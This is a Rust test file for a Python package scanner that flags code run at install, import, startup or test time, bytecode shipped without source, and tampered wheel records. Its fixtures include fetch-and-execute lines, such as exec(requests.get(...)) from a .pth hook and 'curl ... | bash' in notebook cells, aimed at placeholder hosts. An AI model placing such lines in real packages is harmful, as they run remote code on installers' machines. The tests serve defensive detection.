//! What of a Python package runs without being called, and its parts that nobody can read.

use std::fs;
use std::path::Path;

use data_encoding::{BASE64URL_NOPAD, HEXLOWER};
use lurescan::analyse::manifest::record;
use lurescan::analyse::python::{bytecode, startup};
use lurescan::analyse::{Analysed, analyse};
use lurescan::artifact::{Kind, Text};
use lurescan::finding::{Report, Severity, Verdict};
use lurescan::signal::Moment;
use sha2::{Digest, Sha256};

use crate::case::scan_path;
use crate::subject::artifact;

/// One module, `import base64` and a function that decodes, compiled by five interpreters.
const COMPILED: &[(&str, &str)] = &[
    (
        "2.7.18",
        "03f30d0a19e5036b630000000000000000020000004000000073190000006400006401006c00005a00006402008400005a01\
     0064010053280300000069ffffffff4e630100000001000000030000004300000073110000007400006a01006401007c0000\
     178301005328020000004e7308000000614756736247383d2802000000740600000062617365363474090000006236346465\
     636f646528010000007401000000612800000000280000000073040000006d2e707974010000006602000000730200000000\
     0128020000005200000000520300000028000000002800000000280000000073040000006d2e707974080000003c6d6f6475\
     6c653e0100000073020000000c01",
    ),
    (
        "3.6.15",
        "330d0d0a19e5036b44000000e300000000000000000000000002000000400000007314000000640064016c005a0064026403\
     84005a01640153002904e9000000004e630100000000000000010000000300000043000000730e00000074006a0164017c00\
     17008301530029024e7a08614756736247383d2902da066261736536345a096236346465636f64652901da0161a900720400\
     0000fa046d2e7079da0166020000007302000000000172060000002902720200000072060000007204000000720400000072\
     040000007205000000da083c6d6f64756c653e0100000073020000000801",
    ),
    (
        "3.8.18",
        "550d0d0a0000000019e5036b44000000e3000000000000000000000000000000000200000040000000731400000064006401\
     6c005a006402640384005a01640153002904e9000000004e6301000000000000000000000001000000040000004300000073\
     0e0000007400a00164017c001700a101530029024e7a08614756736247383d2902da066261736536345a096236346465636f\
     64652901da0161a9007204000000fa046d2e7079da0166020000007302000000000172060000002902720200000072060000\
     007204000000720400000072040000007205000000da083c6d6f64756c653e0100000073020000000801",
    ),
    (
        "3.11.7",
        "a70d0d0a0000000019e5036b44000000e30000000000000000000000000200000000000000f3140000009700640064016c00\
     5a00640284005a01640153002903e9000000004e630100000000000000000000000400000003000000f33000000097007401\
     000000000000000000006a01000000000000000064017c007a000000a6010000ab010000000000000000530029024e7a0861\
     4756736247383d2902da06626173653634da096236346465636f64652901da0161730100000020fa046d2e7079da01667208\
     0000000200000073170000008000dd0b11d40b1b984aa811994ed10b2bd40b2bd0042bf30000000029027204000000720800\
     0000a90072090000007207000000fa083c6d6f64756c653e720b000000010000007327000000f003010101d8000d800d800d\
     800df00201012cf00001012cf00001012cf00001012cf00001012c7209000000",
    ),
    (
        "3.13.0",
        "f30d0d0a000000001ae5036b44000000e30000000000000000000000000200000000000000f3120000009500530053014b00\
     720053021a00720167012903e9000000004e630100000000000000000000000400000003000000f33400000095005b000000\
     00000000000052020000000000000000000000000000000000002200530155002d0000003501000000000000240029024e7a\
     08614756736247383d2902da06626173653634da096236346465636f64652901da0161730100000020da046d2e7079da0166\
     72080000000200000073170000008000dc0b11d70b1bd20b1b984aa811994ed30b2bd0042bf3000000002902720400000072\
     08000000a90072090000007207000000da083c6d6f64756c653e720b00000001000000730d000000f003010101db000df302\
     01012c7209000000",
    ),
];
/// Starts a program as soon as it is loaded.
const STARTS: &str = "import subprocess\nsubprocess.run([\"helper-program\", \"--now\"])\n";

fn compiled() -> Vec<u8> {
    HEXLOWER.decode(COMPILED[3].1.as_bytes()).expect("hex")
}

fn tree(files: &[(&str, &[u8])]) -> Report {
    let folder = tempfile::tempdir().expect("a temporary folder");
    for (path, bytes) in files {
        let path = folder.path().join(path);
        fs::create_dir_all(path.parent().unwrap_or(Path::new(""))).expect("a folder");
        fs::write(path, bytes).expect("a file");
    }
    scan_path(folder.path())
}

fn archive(name: &str, files: &[(&str, &[u8])]) -> Report {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (path, bytes) in files {
        zip.start_file(*path, zip::write::SimpleFileOptions::default()).expect("a member begins");
        std::io::Write::write_all(&mut zip, bytes).expect("a member is written");
    }
    let bytes = zip.finish().expect("the archive ends").into_inner();
    let folder = tempfile::tempdir().expect("a temporary folder");
    fs::write(folder.path().join(name), bytes).expect("a file");
    scan_path(&folder.path().join(name))
}

/// The moment and path of a rule's weighty findings.
fn weighty(report: &Report, rule: &str) -> Vec<(Option<Moment>, String)> {
    let found = report.findings.iter().filter(|f| f.rule == rule && f.severity >= Severity::Medium);
    found.map(|f| (f.moment, f.path.clone())).collect()
}

fn line(path: &str, bytes: &[u8]) -> String {
    format!("{path},sha256={},{}\n", BASE64URL_NOPAD.encode(&Sha256::digest(bytes)), bytes.len())
}

#[test]
fn only_the_import_lines_of_a_path_file_are_code() {
    let text = "./lib\nimport os; os.abort()\n import no\n\timport no\nimport\tsys\n";
    let code = startup::code(text);
    assert_eq!(code.len(), text.len());
    assert_eq!(code.split_whitespace().collect::<Vec<_>>(), ["import", "os;", "os.abort()", "import", "sys"]);
    assert!(!startup::runs_any(b"../a\n# import os\n"));
    // Weights of a model bear the same ending.
    let report = tree(&[("weights.pth", b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19.\nimport \x00")]);
    assert_eq!(report.verdict, Verdict::Pass);
}

#[test]
fn what_a_path_file_imports_runs_when_python_starts() {
    let chain = b"import requests\nexec(requests.get('https://loader.invalid/stage').text)\n";
    let report = archive("a-1.0-py3-none-any.whl", &[("a.pth", b"import a_hook\n"), ("a_hook.py", chain)]);
    assert_eq!(weighty(&report, "py-fetch-to-code"), [(Some(Moment::Start), "a_hook.py".to_owned())]);
}

#[test]
fn a_build_backend_in_the_tree_runs_on_installation() {
    let project = b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
    let report = tree(&[("pyproject.toml", project), ("_build/backend.py", STARTS.as_bytes())]);
    assert_eq!(weighty(&report, "py-install-hook"), [(Some(Moment::Install), "_build/backend.py".to_owned())]);
    let other = b"[build-system]\nrequires = [\"hatchling\"]\nbuild-backend = \"hatchling.build\"\n";
    let report = tree(&[("pyproject.toml", other), ("_build/backend.py", STARTS.as_bytes())]);
    assert_eq!(report.verdict, Verdict::Pass);
}

#[test]
fn packages_of_an_unpacked_project_are_importable_and_its_scripts_are_not() {
    let project: (&str, &[u8]) = ("setup.py", b"from setuptools import setup\nsetup(name='a')\n");
    for path in ["a/run.py", "src/a/run.py"] {
        let init = path.replace("run", "__init__");
        let report = tree(&[project, (&init, b"\n"), (path, STARTS.as_bytes())]);
        assert_eq!(weighty(&report, "py-install-hook"), [(Some(Moment::Import), path.to_owned())]);
    }
    for path in ["run.py", "scripts/run.py", "tests/run.py", "a/run.py"] {
        let report = tree(&[project, ("tests/__init__.py", b"\n"), (path, STARTS.as_bytes())]);
        assert_eq!(report.verdict, Verdict::Pass, "{path}");
    }
}

#[test]
fn scripts_and_command_classes_are_starts_of_their_modules() {
    let read = |name: &str, text: &str| -> Vec<(Moment, Option<String>)> {
        let artifact = artifact(name, Kind::Settings, text.as_bytes());
        let starts = analyse(&artifact, &Text::new(text.as_bytes()), true).facts.starts;
        starts.into_iter().map(|start| (start.moment(), start.file)).collect()
    };
    let file = |name: &str| Some(name.to_owned());
    let project = "[project]\nname = \"a\"\n[project.scripts]\na = \"a.cli:main\" # comment\n";
    assert_eq!(read("pyproject.toml", project), [(Moment::Install, None), (Moment::Run, file("a.cli"))]);
    let setup = "[options.entry_points]\nconsole_scripts =\n    a = a.cli:main\n[options]\ncmdclass =\n    install = a.build.Install\n";
    assert_eq!(read("setup.cfg", setup), [(Moment::Run, file("a.cli")), (Moment::Install, file("a.build"))]);
    let points = "[console_scripts]\na = a.cli:main\n\n[pytest11]\na = a.plugin\n";
    assert_eq!(
        read("a.egg-info/entry_points.txt", points),
        [(Moment::Run, file("a.cli")), (Moment::Test, file("a.plugin"))]
    );
}

#[test]
fn the_cells_of_a_notebook_are_one_program_and_its_shell_lines_a_script() {
    let cells = |sources: &[&str]| -> Vec<u8> {
        let cells: Vec<_> = sources.iter().map(|s| serde_json::json!({"cell_type": "code", "source": [s]})).collect();
        serde_json::json!({"cells": cells, "nbformat": 4}).to_string().into_bytes()
    };
    let split =
        cells(&["%matplotlib inline\nimport requests\nr = requests", "exec(r.get('https://loader.invalid/a').text)"]);
    let report = tree(&[("job.ipynb", &split)]);
    assert_eq!(weighty(&report, "py-fetch-to-code"), [(Some(Moment::Run), "job.ipynb".to_owned())]);
    for source in [
        "!curl -s http://192.0.2.7/a | bash",
        "%%bash\ncurl -s http://192.0.2.7/a | bash",
        "x = !curl -s http://192.0.2.7/a | bash",
    ] {
        let report = tree(&[("job.ipynb", &cells(&[source]))]);
        assert_eq!(report.verdict, Verdict::Block, "{source} {:?}", report.findings);
    }
    let plain = cells(&["!pip install pandas\nimport pandas as pd", "%time pd.read_csv('a.csv')"]);
    assert_eq!(tree(&[("job.ipynb", &plain)]).verdict, Verdict::Pass);
}

#[test]
fn names_and_texts_of_compiled_python_are_read_whatever_version_wrote_it() {
    for (version, hex) in COMPILED {
        let bytes = HEXLOWER.decode(hex.as_bytes()).expect("hex");
        let texts = bytecode::strings(&bytes);
        for text in ["base64", "b64decode", "aGVsbG8=", "f"] {
            assert!(texts.iter().any(|t| t == text), "{version}: {text} in {texts:?}");
        }
        for end in 0..bytes.len() {
            bytecode::strings(&bytes[..end]);
        }
    }
}

#[test]
fn compiled_python_without_its_source_is_an_opaque_part() {
    let report =
        archive("a-1.0-py3-none-any.whl", &[("a/__init__.py", b"from . import m\n"), ("a/m.pyc", &compiled())]);
    assert_eq!(weighty(&report, "py-bytecode-only"), [(Some(Moment::Import), "a/m.pyc".to_owned())]);
    let beside: &[(&str, &[u8])] = &[("a/m.py", b"x = 1\n"), ("a/m.pyc", &compiled())];
    assert!(weighty(&tree(beside), "py-bytecode-only").is_empty());
    let cached = tree(&[("a/__pycache__/m.cpython-311.pyc", &compiled())]);
    assert!(weighty(&cached, "py-bytecode-only").is_empty());
}

#[test]
fn a_wheel_whose_record_disagrees_is_told() {
    let (good, bad): (&[u8], &[u8]) = (b"def f():\n    return 1\n", b"def f():\n    return 2\n");
    let record = line("a/__init__.py", good) + "a-1.0.dist-info/RECORD,,\n";
    let scan = |members: &[(&str, &[u8])]| {
        let mut members = members.to_vec();
        members.push(("a-1.0.dist-info/RECORD", record.as_bytes()));
        archive("a-1.0-py3-none-any.whl", &members)
    };
    assert_eq!(scan(&[("a/__init__.py", good), ("a/notes.txt", b"hello")]).verdict, Verdict::Pass);
    for members in [
        &[("a/__init__.py", bad)][..],
        &[("a/__init__.py", good), ("a/more.py", bad)],
        &[("a/__init__.py", good), ("a.pth", b"./b\n")],
    ] {
        let report = scan(members);
        assert_eq!(report.verdict, Verdict::Review, "{members:?}");
        assert_eq!(weighty(&report, "wheel-record-mismatch").len(), 1, "{members:?}");
    }
}

#[test]
fn a_record_is_read_with_quoted_paths() {
    let mut out = Analysed::default();
    record::list(&Text::new(b"\"a,b \"\"c\"\".py\",sha256=AAAA,1\nplain.py,,\n\"broken"), &mut out);
    let paths: Vec<&str> = out.facts.recorded.iter().map(|one| one.path.as_str()).collect();
    assert_eq!(paths, ["a,b \"c\".py", "plain.py"]);
    assert!(out.facts.recorded.iter().all(|one| one.sha256.is_none()));
}

#[test]
fn a_source_archive_that_is_a_native_module_and_a_stub_is_locked() {
    let mut native = b"\x7fELF\x02\x01\x01".to_vec();
    native.resize(128, 0);
    let stub: (&str, &[u8]) = ("a-1.0/a/__init__.py", b"from .core import main\n");
    let report = archive("a-1.0.zip", &[stub, ("a-1.0/a/core.so", &native)]);
    assert_eq!(weighty(&report, "py-protected-code").len(), 1);
    let report =
        archive("a-1.0.zip", &[stub, ("a-1.0/a/core.so", &native), ("a-1.0/src/core.c", b"int main(void);\n")]);
    assert!(weighty(&report, "py-protected-code").is_empty());
    let report = archive("a-1.0-cp311-cp311-linux_x86_64.whl", &[stub, ("a-1.0/a/core.so", &native)]);
    assert!(weighty(&report, "py-protected-code").is_empty());
}
